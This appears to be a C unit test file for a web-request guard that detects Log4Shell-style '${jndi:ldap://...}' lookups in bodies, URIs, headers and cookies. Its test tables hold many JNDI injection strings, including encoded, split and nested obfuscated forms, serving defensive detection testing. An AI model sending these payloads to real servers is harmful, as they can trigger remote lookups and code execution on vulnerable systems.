/* Whose value a byte is: one payload in every part of a request, however it is cut. */
#include "probe.h"

#define P "${jndi:ldap://x/a}"
#define FORM "application/x-www-form-urlencoded"
#define JSON "application/json"
#define XML "text/xml"
#define B "multipart/form-data; boundary=b"
#define PART(head, body) "--b\r\n" head "\r\n\r\n" body "\r\n"
#define DISPOSITION "Content-Disposition: form-data; "

/* type, body, what is found without "lookup reaches " before and " ldap://x/a" behind */
static const struct {
    const char *type, *body, *want;
} bodies[] = {
    {"text/plain", P, "body"},
    {"", "a " P " b", "body"},
    {"application/octet-stream", P, "body"},
    {FORM, "a=1&q=" P "&b=2", "form:q"},
    {"Application/X-WWW-Form-URLencoded ; charset=UTF-8", "q=%24%7bjndi:ldap://x/a%7d", "form:q"},
    {FORM, "a%20b+c=" P, "form:a b c"},
    {FORM, "a=1&" P "=2", "form:" P " name"},
    {FORM, "a=1&" P, "form:" P " name"},
    {FORM, P "&a=1", "form:" P " name"},
    {FORM, "=" P, "form:"},
    {FORM, "a==" P "=&b", "form:a"},
    {FORM, "&&&%=%4&%zz=1&x%=" P, "form:x%"},
    {FORM, "a=${x}&b=$%7by%7d&c=" P "&d=${z}", "form:c"},
    {FORM, "a=${jndi:ldap&b=://x/a}", NULL},
    {JSON, "{\"a\":{\"b\":[1,\"" P "\"]}}", "json:/a/b/1"},
    {"application/json; charset=utf-8", "[[],[[]],{\"a\":[{},{\"k\":\"" P "\"}]}]",
     "json:/2/a/1/k"},
    {"application/vnd.api+json", "{\"a/b~c\":\"" P "\"}", "json:/a~1b~0c"},
    {JSON, "{\"\\u3042\\ud83d\\ude00\":\"" P "\"}", "json:/\xe3\x81\x82\xf0\x9f\x98\x80"},
    {JSON, "\"" P "\"", "json:"},
    {JSON, "{\"" P "\":1}",
     "json:/"
     "${jndi:ldap:~1~1x~1a} name"},
    {JSON, "{\"a\":1,\"b\":{\"c\":null},\"d\":\"\\\"\\\\" P "\"}", "json:/d"},
    {JSON, "{\"a\":\"\\u0024\\u007bjndi\\u003aldap:\\/\\/x\\/a\\u007d\"}", "json:/a"},
    {JSON, "{\"a\" : true , \"b\" : " P "}", "json:/b"},
    {JSON, "{\"a\":1} " P, "json:"},
    {JSON, "}]}{\"a\":[}],\"b\":\"" P "\"}", NULL},
    {"application/x-ndjson", "{\"a\":1}\n{\"b\":\"" P "\"}\n", "json:/b"},
    {JSON, "{\"a\":\"${x}\",\"b\":\"" P "\",\"c\":\"${y}\"}", "json:/b"},
    {XML, "<order><note>" P "</note></order>", "xml:order/note"},
    {"application/xml", "<?xml version='1.0'?><a><b/><c x='1'>t</c><d>" P "</d></a>", "xml:a/d"},
    {"application/soap+xml", "<s:a><s:b id='" P "'/></s:a>", "xml:s:a/s:b/@id"},
    {XML, "<a><b x = \"1\" y=\"" P "\">t</b></a>", "xml:a/b/@y"},
    {XML, "<a><b>t</b>" P "</a>", "xml:a"},
    {XML, "<a><![CDATA[ ]] ]> " P "]]></a>", "xml:a"},
    {XML, "<a><b><!-- - -- " P " --></b></a>", "xml:a/b"},
    {XML, "<a><?pi " P "?></a>", "xml:a"},
    {XML, "<!DOCTYPE a [<!ENTITY b \"]>" P "\">]><a/>", "xml:"},
    {XML, "<!DOCTYPE a [<!ENTITY b \"]>\">]><a>" P "</a>", "xml:a"},
    {XML, "<a><" P "></a>", "xml:a/${jndi:ldap: name"},
    {XML, "<a>&#36;&#x7b;jndi:ldap://x/a&#125;</a>", "xml:a"},
    {XML, "<a><b>${x}</b><b>" P "</b></a>", "xml:a/b"},
    {XML, "< a>< /b>>></c><d e f=" P ">", NULL},
    {B, PART(DISPOSITION "name=\"n\"", P) "--b--\r\n", "form:n"},
    {B, PART(DISPOSITION "name=\"n\"", "1") PART(DISPOSITION "name=m", P) "--b--", "form:m"},
    {B, PART(DISPOSITION "name=\"n\"", P), "form:n"},
    {"multipart/form-data; charset=utf-8; boundary=\"b\"", PART(DISPOSITION "name=\"n\"", P),
     "form:n"},
    {B, PART("content-type: text/plain\r\nCONTENT-DISPOSITION:form-data;NAME=\"n\"", P), "form:n"},
    {B, PART("Content-Disposition: form-data;\r\n name=\"n\"", P), "form:n"},
    {B, PART("Content-Disposition:\r\n\tform-data; x=\"name=z\"; name=\"n\"", P), "form:n"},
    {B, PART("X-A: name=\"z\"\r\n" DISPOSITION "name=\"n\"\r\nX-B: name=\"y\"", P), "form:n"},
    {B, "--b\n" DISPOSITION "name=\"n\"\n\n" P "\n--b--\n", "form:n"},
    {B, PART(DISPOSITION "name=\"" P "\"", "1"), "form:" P " name"},
    {B, PART(DISPOSITION "name=\"a\\\"b\"", P), "form:a\"b"},
    {B, PART(DISPOSITION "name=\"u\"; filename=\"" P "\"", "1"), "file:u"},
    {B, PART(DISPOSITION "name=\"u\"; filename=" P, "1"), "file:u"},
    {B, PART(DISPOSITION "name=\"u\"; filename*=UTF-8'ja'%24%7bjndi:ldap://x/a%7D", "1"), "file:u"},
    {B, PART(DISPOSITION "name=\"u\"; filename=\"C:\\a.txt\"", P), "file:u"},
    {B, PART(DISPOSITION "name=\"u\"; filename=\"\"", "\r\n--c\r\n--\r\r\n" P), "file:u"},
    {B, PART(DISPOSITION "name=\"u\"\r\nContent-Type: " P, "1"), "body"},
    {B, PART(DISPOSITION "name=\"n\"", "--bc\r\n-b\r--b" P), "form:n"},
    {B, P "\r\n" PART(DISPOSITION "name=\"n\"", "1"), "body"},
    {B, PART(DISPOSITION "name=\"n\"", "1") "--b--\r\n" P, "body"},
    {B,
     PART(DISPOSITION "name=\"n\"\r\nContent-Type: multipart/mixed; boundary=c",
          "--c\r\nContent-Disposition: file; filename=\"" P "\"\r\n\r\n1\r\n--c--"),
     "form:n"},
    {B, PART(DISPOSITION "name=\"n\"", "${x}") PART(DISPOSITION "name=\"m\"", P), "form:m"},
    {"multipart/form-data", P, "body"},
    {"multipart/form-data; boundary=", "--\r\n" DISPOSITION "name=a\r\n\r\n" P, "body"},
};

static void expect(const struct probe *p, const char *body, const char *want)
{
    char text[600];
    if (p->q.found.verdict != VERDICT_REACHES)
        fail_msg("%s: %s", body, probe_found(p));
    if (!want)
        return;
    (void)snprintf(text, sizeof text, "lookup reaches %s ldap://x/a", want);
    if (strcmp(probe_found(p), text) != 0)
        fail_msg("%s (piece %zu, cut %zu): %s", body, p->piece, p->cut, probe_found(p));
}

static void test_bodies(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(bodies); i++) {
        struct slice body = slice_str(bodies[i].body);
        p.piece = 0;
        p.cut = 0;
        probe_body(&p, bodies[i].type, "", body);
        if (!bodies[i].want && p.q.found.why == GUARD_NOTHING)
            fail_msg("%s", bodies[i].body);
        char whole[1000];
        (void)snprintf(whole, sizeof whole, "%s", probe_found(&p));
        if (bodies[i].want)
            expect(&p, bodies[i].body, bodies[i].want);
        for (p.piece = 1; p.piece < 4; p.piece++) {
            probe_body(&p, bodies[i].type, "", body);
            assert_string_equal(probe_found(&p), whole);
        }
        p.piece = 0;
        for (p.cut = 1; p.cut < body.n; p.cut++) {
            probe_body(&p, bodies[i].type, "", body);
            if (strcmp(probe_found(&p), whole) != 0)
                fail_msg("%s cut at %zu: %s", bodies[i].body, p.cut, probe_found(&p));
        }
    }
    probe_done(&p);
}

/* The same behind so much text that cells and windows lie everywhere around it. */
static void test_far_inside(void **state)
{
    static const size_t before[] = {GUARD_CELL - 40,   GUARD_CELL - 1,   OPENER_PIECE - 20,
                                    OPENER_PIECE,      2ul * GUARD_CELL, GUARD_WINDOW - 30,
                                    GUARD_WINDOW + 30, 3 * GUARD_WINDOW};
    static const size_t pieces[] = {0, 1, 511, 513, GUARD_CELL, OPENER_PIECE, 10000};
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    for (size_t i = 0; i < ARRAY_LEN(before); i++) {
        for (size_t shift = 0; shift < 40; shift += 3) {
            buf_clear(&b);
            (void)buf_add_str(&b, "a=");
            while (b.n < before[i] + shift - 3)
                (void)buf_add_char(&b, 'x');
            (void)buf_add_str(&b, "&q=%24%7bjndi:ldap://x/a%7D&r=");
            while (b.n < before[i] + 3000 + shift * 100)
                (void)buf_add_char(&b, 'y');
            for (size_t k = 0; k < ARRAY_LEN(pieces); k++) {
                p.piece = pieces[k];
                probe_body(&p, FORM, "", buf_slice(&b));
                assert_string_equal(probe_found(&p), "lookup reaches form:q ldap://x/a");
            }
        }
    }
    buf_done(&b);
    probe_done(&p);
}

/* What parsers pass over where no rule looks, many times over: the fields behind it are the same as
 * for a rule that looks at every byte. */
static const struct {
    const char *type, *from, *unit, *to;
} passed[] = {
    {FORM, "", "a=1&b+%41%zz=%2&c&", "k%5bx%5D=" P "&z=1"},
    {FORM, "", "a=1&", P "=1"},
    {FORM, "a%2", "", "=" P},
    {FORM, "", "averylongnameofafield", "%6d=" P},
    {FORM, "", "a=1&b=${x}&c=2&", "d=" P},
    {JSON, "{\"k\":[", "\"a\\\"b\\u00e9\",1,", "\"" P "\"]}"},
    {JSON, "{\"k\":[", "{\"a~\":{\"b/\":[true]}},", P "]}"},
    {JSON, "", "{\"ab\":[\"\",", "\"" P "\""},
    {JSON, "", "{\"ab\":", "1}}},\"c\":\"" P "\""},
    {JSON, "{\"", "averylongname~/\\t\\u3042", "\":\"" P "\""},
    {JSON, "[", "{\"a\":\"${x}\",\"b\":\"\\\\\"},", "{\"c\":\"" P "\"}]"},
    {XML, "<r>", "<a>t &amp; u</a><b c='>' d=\"/\"/><!-- > --><e/>", "<f>" P "</f>"},
    {XML, "<r>", "<a>", "</a></a><f>" P "</f>"},
    {XML, "<r>", "<a b='c'>", "</a><f g='" P "'>"},
    {XML, "<r>", "</a>", "<f>" P "</f>"},
    {XML, "<r>", "<averylongnameofanelement>t</averylongnameofanelement>", "<f>" P},
    {XML, "<r>", "<a>${x}</a>", "<f>" P},
    {XML, "<r><![CDATA[", "a ]] ]> ", P "]]>"},
    {B, "", PART(DISPOSITION "name=\"a\\\"b\"; filename=\"c\"", "1\n--\r\n--c\r\r\n"),
     PART(DISPOSITION "name=\"n\"", P)},
    {B, "--b\r\n" DISPOSITION "name=\"n\"\r\nX-", "averylongname", ": 1\r\n\r\n" P},
    {B, "--b\r\n" DISPOSITION "name=\"", "averylongname\\x", "\"\r\n\r\n" P},
};

static void test_passed_over(void **state)
{
    static const size_t times[] = {1, 2, 15, 40, 127, 128, 129, 500, 1001};
    static const size_t pieces[] = {0, 1, 700, 4096};
    struct guard_rules *watching = NULL;
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    assert_ok(guard_rules_parse(slice_str("hikeshi-rules 1\nversion 1 2021-12-14T09:00:00Z\n"
                                          "patch P pattern=\"this stands nowhere\"\n"),
                                &watching, NULL));
    for (size_t i = 0; i < ARRAY_LEN(passed); i++) {
        for (size_t t = 0; t < ARRAY_LEN(times); t++) {
            char want[700];
            buf_clear(&b);
            (void)buf_add_str(&b, passed[i].from);
            for (size_t k = 0; k < times[t]; k++)
                (void)buf_add_str(&b, passed[i].unit);
            (void)buf_add_str(&b, passed[i].to);
            p.rules = watching;
            p.piece = 0;
            probe_body(&p, passed[i].type, "", buf_slice(&b));
            (void)snprintf(want, sizeof want, "%s", probe_found(&p));
            assert_int_equal(strncmp(want, "lookup reaches ", 15), 0);
            p.rules = NULL;
            for (size_t k = 0; k < ARRAY_LEN(pieces); k++) {
                p.piece = pieces[k];
                probe_body(&p, passed[i].type, "", buf_slice(&b));
                assert_string_equal(probe_found(&p), want);
            }
        }
    }
    guard_rules_unref(watching);
    buf_done(&b);
    probe_done(&p);
}

/* How the head is asked. */
static const struct {
    char what; /* u: uri, a: args, or the name of a header in name */
    const char *name, *value, *want;
} heads[] = {
    {'u', NULL, "/a/" P, "uri"},
    {'u', NULL, "/a/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "uri"},
    {'a', NULL, "a=1&q=" P "&b", "arg:q"},
    {'a', NULL, "q=%2524%257Bjndi:ldap://x/a%257D", "arg:q"},
    {'a', NULL, P, "arg:" P " name"},
    {'a', NULL, "a%5B%5D=" P, "arg:a[]"},
    {'h', "User-Agent", "Mozilla/5.0 " P, "header:user-agent"},
    {'h', "X-Api-Version", "JHtqbmRpOmxkYXA6Ly94L2F9", "header:x-api-version"},
    {'h', "X-" P, "1", "header:x-${jndi:ldap://x/a} name"},
    {'h', "Cookie", "a=1; sid=" P "; b=2", "cookie:sid"},
    {'h', "cookie", P "=1", "cookie:" P " name"},
    {'h', "COOKIE", "sid=%24%7Bjndi:ldap://x/a%7D", "cookie:sid"},
};

static void ask(struct probe *p, size_t i)
{
    struct slice value = slice_str(heads[i].value);
    if (heads[i].what == 'u')
        guard_uri(&p->q, value);
    else if (heads[i].what == 'a')
        guard_args(&p->q, value);
    else
        guard_header(&p->q, slice_str(heads[i].name), value);
}

static void test_heads(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(heads); i++) {
        probe_begin(&p);
        guard_uri(&p.q, SLICE_LIT("/index.html"));
        guard_args(&p.q, SLICE_LIT("a=b&c=%20d"));
        guard_header(&p.q, SLICE_LIT("Accept"), SLICE_LIT("*/*"));
        assert_string_equal(probe_found(&p), "nothing");
        assert_int_equal(p.count, 0);
        ask(&p, i);
        probe_end(&p);
        expect(&p, heads[i].value, heads[i].want);
    }
    probe_begin_as(&p, P, "/", (struct slice){NULL, 0});
    expect(&p, "the method", "method");
    probe_end(&p);
    probe_done(&p);
}

struct values {
    const char *const *name_and_value;
    size_t next;
};

static bool next_value(void *ctx, struct guard_header *ret)
{
    struct values *v = ctx;
    if (!v->name_and_value[v->next])
        return false;
    *ret = (struct guard_header){slice_str(v->name_and_value[v->next]),
                                 slice_str(v->name_and_value[v->next + 1])};
    v->next += 2;
    return true;
}

static bool excludes_x(void *ctx, const struct guard_field *f)
{
    (void)ctx;
    return slice_starts(f->name, SLICE_LIT("x-"));
}

/* What is logged as one text, whatever stands between the values there. */
static void test_together(void **state)
{
    static const struct {
        const char *path, *query, *headers[7], *want, *excluded;
    } cases[] = {
        {"/", "", {"A", "${${a", "B", ":-j}ndi:x}"}, "lookup reaches header:a x", NULL},
        {"/", "", {"A", "${${a", "B", "-j}ndi:x}"}, "lookup reaches header:a x", NULL},
        {"/",
         "",
         {"A", "${${a", "C", "d", "b", "$%7b:-j}ndi:x}"},
         "lookup reaches header:a x",
         NULL},
        {"/${${a", "", {"B", ":-j}ndi:x}"}, "lookup reaches uri x", NULL},
        {"/", "q=${${a", {"B", ":-j}ndi:x}"}, "lookup reaches uri x", "nothing"},
        {"/",
         "",
         {"Cookie", "b=${${a", "B", ":-j}ndi:x}"},
         "lookup reaches cookie:cookie x",
         "nothing"},
        {"/", "", {"X-A", "${${a", "B", ":-j}ndi:x}"}, "lookup reaches header:x-a x", NULL},
        {"/", "", {"X-A", "${jndi:x}", "B", "c"}, "lookup reaches header:x-a x", "nothing"},
        {"/", "", {"X-A", "${jndi:x", "B", "}"}, "lookup reaches header:x-a x", NULL},
        {"/",
         "",
         {"Cookie", "x-b=${jndi:x}", "B", "${b}"},
         "lookup reaches cookie:x-b x",
         "nothing"},
        {"/", "", {"A", "${a", "B", "b}"}, "nothing", NULL},
        {"/", "", {"A", ":-j}ndi:x}", "B", "${${a"}, "nothing", NULL},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t k = 0; k < 2; k++) {
        p.options.excluded = k ? excludes_x : NULL;
        for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
            struct values v = {.name_and_value = cases[i].headers};
            struct guard_header h;
            probe_begin(&p);
            guard_uri(&p.q, slice_str(cases[i].path));
            guard_args(&p.q, slice_str(cases[i].query));
            while (next_value(&v, &h))
                guard_header(&p.q, h.name, h.value);
            v.next = 0;
            guard_head_together(&p.q, slice_str(cases[i].path), slice_str(cases[i].query),
                                next_value, &v);
            if (strcmp(probe_found(&p),
                       k && cases[i].excluded ? cases[i].excluded : cases[i].want) != 0)
                fail_msg("case %zu, %zu: %s", i, k, probe_found(&p));
            probe_end(&p);
        }
    }
    probe_done(&p);
}

/* The first of equals is kept, and a worse one replaces it. */
static void test_the_worst(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    probe_begin(&p);
    guard_header(&p.q, SLICE_LIT("a"), SLICE_LIT("${jndi:ldap://open"));
    assert_string_equal(probe_found(&p), "lookup if-closed header:a ldap://open");
    guard_header(&p.q, SLICE_LIT("b"), SLICE_LIT("${jndi:ldap://open2"));
    assert_string_equal(probe_found(&p), "lookup if-closed header:a ldap://open");
    guard_header(&p.q, SLICE_LIT("c"), SLICE_LIT("${jndi:dns://c}"));
    assert_string_equal(probe_found(&p), "lookup reaches header:c dns://c");
    guard_header(&p.q, SLICE_LIT("d"), SLICE_LIT("${jndi:dns://d}"));
    assert_string_equal(probe_found(&p), "lookup reaches header:c dns://c");
    assert_true(p.q.over);
    probe_end(&p);
    probe_done(&p);
}

/* What least says. */
static void test_least(void **state)
{
    static const struct {
        enum verdict least;
        const char *text, *want;
    } cases[] = {
        {VERDICT_ATTEMPT, "${ jndi:ldap://x}", "lookup attempt body ldap://x"},
        {VERDICT_IF_CLOSED, "${ jndi:ldap://x}", "nothing"},
        {VERDICT_IF_CLOSED, "${jndi:ldap://x", "lookup if-closed body ldap://x"},
        {VERDICT_REACHES, "${jndi:ldap://x", "nothing"},
        {VERDICT_REACHES, "${jndi:ldap://x}", "lookup reaches body ldap://x"},
        {VERDICT_ATTEMPT, "${name}", "nothing"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        p.options.least = cases[i].least;
        probe_body(&p, "text/plain", "", slice_str(cases[i].text));
        assert_string_equal(probe_found(&p), cases[i].want);
    }
    probe_done(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bodies),      cmocka_unit_test(test_far_inside),
        cmocka_unit_test(test_passed_over), cmocka_unit_test(test_heads),
        cmocka_unit_test(test_together),    cmocka_unit_test(test_the_worst),
        cmocka_unit_test(test_least),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
